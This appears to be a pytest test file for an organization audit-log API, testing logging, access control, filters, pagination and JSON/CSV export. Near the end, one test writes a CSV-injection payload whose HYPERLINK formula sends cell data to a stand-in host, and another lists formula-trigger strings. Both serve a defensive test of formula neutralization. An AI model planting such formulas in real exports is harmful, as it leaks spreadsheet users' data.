"""The audit log of an organization: what is written, what is read, and what is taken away.

Operations: `list_audit_log`, `export_audit_log`.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from typing import Any

import pytest

from app.services import audit_export
from app.services.audit_export import neutral
from models.audit import AuditEntry
from models.base import now, transaction
from support.accounts import People
from support.envelopes import Refusals
from support.orgs import Orgs, Seat

LOG, EXPORT = "/audit-log", "/audit-log/export"
GRACE = "grace@example.com"


def write(orgs: Orgs, seat: Seat, *moments: datetime, **fields: Any) -> None:
    """Entries in the org's log at these moments, oldest first."""
    values: dict[str, Any] = {"action": "box.lock", "resource_type": "box", "details": {}, "request_id": "r"}
    with transaction(orgs.runtime.engine) as session:
        session.add_all(
            AuditEntry(org_id=seat.org.id, created_at=moment, **(values | {"resource_id": f"{number}"} | fields))
            for number, moment in enumerate(moments)
        )


def resources(told: dict[str, Any]) -> list[str]:
    """What the entries were about."""
    return [entry["resourceId"] for entry in told["items"]]


def rows(answer: Any) -> list[dict[str, str]]:
    """The lines of a CSV export."""
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))


def test_an_entry_says_who_did_what_from_where(orgs: Orgs, owner: Seat) -> None:
    """And in which request, so that the server's own log can be searched."""
    member = orgs.seat(owner.org, "member")
    path = f"/members/{member.user.uid}"
    answer = owner.ask("PATCH", path, json={"role": "admin"}, headers={"x-request-id": "my.request-1"})
    assert answer.headers["x-request-id"] == "my.request-1"
    [entry] = owner.get(LOG)["items"]
    moment = datetime.fromisoformat(entry.pop("createdAt"))
    assert abs(now() - moment) < timedelta(seconds=20)
    assert len(entry.pop("id")) == 36
    assert entry == {
        "orgId": owner.org.uid, "actorType": "user", "actorId": owner.user.uid, "actorEmail": owner.user.email,
        "action": "member.role_change", "resourceType": "user", "resourceId": member.user.uid,
        "metadata": {"before": "member", "after": "admin"}, "requestId": "my.request-1", "ipAddress": "127.0.0.1",
    }  # fmt: skip


def test_every_change_is_written_down_once(orgs: Orgs, owner: Seat, people: People) -> None:
    """In the order it happened, by whoever did it."""
    member = orgs.seat(owner.org, "member")
    owner.ask("PATCH", json={"name": "Bench"})
    owner.ask("PATCH", f"/members/{member.user.uid}", json={"role": "admin"})
    invited = owner.post("/invitations", email=GRACE, role="member")["id"]
    owner.post(f"/invitations/{invited}/resend")
    owner.ask("DELETE", f"/invitations/{invited}")
    team = owner.post("/teams", name="Power", slug="power")["id"]
    owner.ask("PATCH", f"/teams/{team}", json={"slug": "volts"})
    owner.post(f"/teams/{team}/members", userId=member.user.uid)
    owner.ask("DELETE", f"/teams/{team}/members/{member.user.uid}")
    owner.ask("DELETE", f"/teams/{team}")
    member.ask("DELETE", f"/members/{member.user.uid}")
    told = owner.get(LOG, limit=100)["items"][::-1]
    assert [(entry["action"], entry["resourceType"], entry["resourceId"]) for entry in told] == [
        ("org.update", "org", owner.org.uid), ("member.role_change", "user", member.user.uid),
        ("member.invite", "invitation", invited), ("invitation.resend", "invitation", invited),
        ("invitation.revoke", "invitation", invited), ("team.create", "team", team), ("team.update", "team", team),
        ("team.member_add", "team", team), ("team.member_remove", "team", team), ("team.delete", "team", team),
        ("member.remove", "user", member.user.uid),
    ]  # fmt: skip
    assert {entry["actorId"] for entry in told[:-1]} == {owner.user.uid}
    assert told[-1]["actorId"] == member.user.uid
    assert people.token(GRACE, "invitation") not in str(told)


def test_what_was_refused_is_not_written_down(orgs: Orgs, owner: Seat) -> None:
    """The entry belongs to the change, and goes with it."""
    owner.post("/teams", name="Power", slug="power")
    refusals = [
        owner.ask("POST", "/teams", json={"name": "Power", "slug": "power"}),
        owner.ask("DELETE", f"/members/{owner.user.uid}"),
        owner.ask("POST", "/invitations", json={"email": owner.user.email, "role": "member"}),
        orgs.seat(owner.org, "member").ask("POST", "/teams", json={"name": "Mine", "slug": "mine"}),
    ]
    assert [answer.status_code for answer in refusals] == [409, 409, 409, 403]
    assert [action for action, _ in owner.acts()] == ["team.create"]


def test_an_entry_never_changes(orgs: Orgs, owner: Seat) -> None:
    """Whatever becomes of who acted and of what it was done to; and there is no way to write one."""
    admin = orgs.seat(owner.org, "admin")
    team = admin.post("/teams", name="Power", slug="power")["id"]
    before = owner.get(LOG)["items"]
    owner.ask("DELETE", f"/teams/{team}")
    owner.ask("DELETE", f"/members/{admin.user.uid}")
    assert owner.get(LOG)["items"][2:] == before
    for method in ("POST", "PUT", "PATCH", "DELETE"):
        assert owner.ask(method, LOG, json={}).status_code == 405
        assert owner.ask(method, f"{LOG}/{before[0]['id']}", json={}).status_code in {404, 405}


@pytest.mark.parametrize("path", [LOG, EXPORT])
def test_the_log_is_the_admins(orgs: Orgs, owner: Seat, refused: Refusals, path: str) -> None:
    """Members have no right to it, strangers find nothing."""
    assert orgs.seat(owner.org, "admin").ask("GET", path).status_code == 200
    refused(orgs.seat(owner.org, "member").ask("GET", path), 403)
    refused(orgs.seat(owner.org).ask("GET", path), 404)


def test_each_org_has_its_own_log(orgs: Orgs, owner: Seat) -> None:
    """A person's acts elsewhere are none of this org's business."""
    other = orgs.elsewhere(owner, orgs.make("lab"), "owner")
    made = other.post("/teams", name="Power", slug="power")["id"]
    assert owner.get(LOG)["items"] == owner.get(EXPORT)["items"] == []
    assert resources(other.get(LOG)) == resources(other.get(EXPORT)) == [made]


def test_the_log_is_cut_into_pages(orgs: Orgs, owner: Seat) -> None:
    """Newest first, the total beside them."""
    write(orgs, owner, *([now()] * 5))
    told = owner.get(LOG, page=2, limit=2)
    assert resources(told) == ["2", "1"]
    assert {name: told[name] for name in ("total", "page", "limit")} == {"total": 5, "page": 2, "limit": 2}


@pytest.mark.parametrize(("asked", "found"), [
    ({"action": "team.create"}, ["b"]), ({"action": "team.*"}, ["c", "b"]), ({"action": "team"}, []),
    ({"resourceType": "user"}, ["a"]), ({"resourceType": "team", "action": "team.delete"}, ["c"]),
    ({"actorId": "00000000-0000-4000-8000-000000000000"}, []),
])  # fmt: skip
@pytest.mark.parametrize("path", [LOG, EXPORT])
def test_entries_are_found_by_what_was_done(
    orgs: Orgs, owner: Seat, path: str, asked: dict[str, str], found: list[str]
) -> None:
    """To what kind of thing; a star at the end takes the whole family, and no other."""
    for name, action, kind in (
        ("a", "member.invite", "user"), ("b", "team.create", "team"), ("c", "team.delete", "team"),
        ("d", "teamwork.begin", "box"),
    ):  # fmt: skip
        write(orgs, owner, now(), resource_id=name, action=action, resource_type=kind)
    told = owner.get(path, **asked)
    assert (resources(told), told["total"]) == (found, len(found))


def test_entries_are_found_by_who_acted(orgs: Orgs, owner: Seat) -> None:
    """In whichever case the id is written."""
    admin = orgs.seat(owner.org, "admin")
    made = [seat.post("/teams", name="A", slug=f"t{number}")["id"] for number, seat in enumerate((owner, admin))]
    assert resources(owner.get(LOG, actorId=admin.user.uid.upper())) == [made[1]]
    assert resources(owner.get(LOG, actorId=owner.user.uid)) == [made[0]]


def test_entries_are_found_by_when_it_was_done(orgs: Orgs, owner: Seat) -> None:
    """Both ends belong to it; the moment one was shown finds the entry it was shown of, and all in its millisecond."""
    start = datetime.fromisoformat("2026-05-19T10:00:00.000Z")
    ticks = [
        start,
        start + timedelta(microseconds=300),
        start + timedelta(microseconds=1000),
        start + timedelta(days=1),
    ]
    write(orgs, owner, *ticks)
    shown = "2026-05-19T10:00:00.000Z"
    assert resources(owner.get(LOG, to=shown)) == ["1", "0"]
    assert resources(owner.get(LOG, **{"from": shown, "to": shown})) == ["1", "0"]
    assert resources(owner.get(LOG, **{"from": "2026-05-19T12:00:00.001+02:00"})) == ["3", "2"]
    assert resources(owner.get(LOG, **{"from": "9999-12-31T23:59:59Z", "to": shown})) == []
    assert len(resources(owner.get(LOG, to="9999-12-31T23:59:59.999999Z"))) == 4


@pytest.mark.parametrize(("name", "value"), [
    ("actorId", "7"), ("action", "Team.create"), ("action", "*"), ("action", "team*"), ("resourceType", "a b"),
    ("from", "yesterday"), ("to", "2026-05-19"), ("limit", "101"), ("actor", "x"),
])  # fmt: skip
def test_a_filter_that_says_nothing_is_refused(owner: Seat, refused: Refusals, name: str, value: str) -> None:
    """It would look as if nothing had happened."""
    [issue] = refused(owner.ask("GET", LOG, params={name: value}), 400)["issues"]
    assert issue["path"] == ["query", name]


def test_an_export_holds_what_the_list_does(orgs: Orgs, owner: Seat) -> None:
    """More than one batch of it, each entry once and in order, in either form."""
    write(orgs, owner, *[now() + timedelta(milliseconds=n) for n in range(2 * audit_export.BATCH + 1)])
    owner.post("/teams", name="Power", slug="power")
    answer = owner.ask("GET", EXPORT)
    told = answer.json()
    assert told["total"] == len(told["items"]) == 2 * audit_export.BATCH + 2
    assert int(answer.headers["x-total-count"]) == told["total"]
    assert resources(told)[1:] == [f"{n}" for n in reversed(range(2 * audit_export.BATCH + 1))]
    assert told["items"][:100] == owner.get(LOG, limit=100)["items"]
    lines = rows(owner.ask("GET", EXPORT, params={"format": "csv"}))
    assert [line["id"] for line in lines] == [entry["id"] for entry in told["items"]]
    assert lines[0]["metadata"] == '{"name":"Power","slug":"power"}'


@pytest.mark.parametrize(("form", "media"), [("json", "application/json"), ("csv", "text/csv; charset=utf-8")])
def test_an_export_is_a_file_to_keep(owner: Seat, form: str, media: str) -> None:
    """With a name that tells the org; nobody on the way keeps a copy."""
    answer = owner.ask("GET", EXPORT, params={"format": form})
    assert answer.headers["content-type"] == media
    assert answer.headers["content-disposition"].startswith('attachment; filename="audit-log-test-bench-')
    assert answer.headers["content-disposition"].endswith(f'.{form}"')
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["x-request-id"]
    assert (answer.headers["x-total-count"], owner.ask("HEAD", EXPORT).content) == ("0", b"")


def test_an_empty_export_is_whole(owner: Seat) -> None:
    """A program reads it like any other."""
    assert owner.get(EXPORT) == {"total": 0, "items": []}
    answer = owner.ask("GET", EXPORT, params={"format": "csv"})
    assert answer.text == ",".join(audit_export.COLUMNS) + "\r\n"


def test_an_export_has_an_end_and_says_so(orgs: Orgs, owner: Seat, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever needs more asks on from the last entry, and misses none of its millisecond."""
    monkeypatch.setattr(audit_export, "MOST", 3)
    start = datetime.fromisoformat("2026-05-19T10:00:00.000Z")
    write(orgs, owner, *[start + timedelta(microseconds=400 * n) for n in range(5)])
    answer = owner.ask("GET", EXPORT)
    first = answer.json()
    assert (answer.headers["x-total-count"], first["total"], resources(first)) == ("5", 5, ["4", "3", "2"])
    assert resources(owner.get(EXPORT, to=first["items"][-1]["createdAt"])) == ["2", "1", "0"]


def test_a_spreadsheet_runs_nothing(orgs: Orgs, owner: Seat) -> None:
    """Addresses and request ids are whatever callers made them; quotes and line ends stay in their cell."""
    hostile = '=HYPERLINK("http://elsewhere.example?x="&A1)\r\n@x.example'
    write(orgs, owner, now(), actor_email=hostile, request_id="-2", details={"note": "=1+1"}, ip_address=None)
    [line] = rows(owner.ask("GET", EXPORT, params={"format": "csv"}))
    assert line["actorEmail"] == f"'{hostile}"
    assert (line["requestId"], line["metadata"], line["ipAddress"]) == ("'-2", '{"note":"=1+1"}', "")
    assert owner.get(EXPORT)["items"][0]["actorEmail"] == hostile


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "  =1", "\uff1d1", "\uff20A1"])
def test_formulas_are_made_text(cell: str) -> None:
    """Spreadsheets skip blanks, and take full-width signs for the plain ones."""
    assert neutral(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "box.lock", "a=1", "2026-05-19T10:00:00.000Z", "192.0.2.7", "{}"])
def test_plain_cells_stay_what_they_are(cell: str) -> None:
    """An apostrophe where none is needed is damage."""
    assert neutral(cell) == cell
